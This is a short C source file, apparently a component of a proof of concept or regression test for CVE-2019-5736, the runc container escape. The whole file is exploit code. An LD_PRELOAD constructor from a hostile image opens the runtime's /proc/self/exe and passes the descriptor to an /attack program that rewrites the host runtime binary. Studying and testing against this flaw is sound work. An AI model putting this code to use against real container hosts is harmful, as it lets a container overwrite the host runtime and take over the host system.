/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A library of a hostile image (LD_PRELOAD). When the runtime's own program is executed in the
 * container, as /proc/self/exe, this runs in it, takes a descriptor of that program along, and hands it
 * to the attacker (CVE-2019-5736).
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take_along(void)
{
	char number[16];
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0)
		fd = open("/proc/self/exe", O_PATH);
	(void)snprintf(number, sizeof(number), "%d", fd);
	(void)execl("/attack", "attack", "rewrite", number, (char *)0);
}
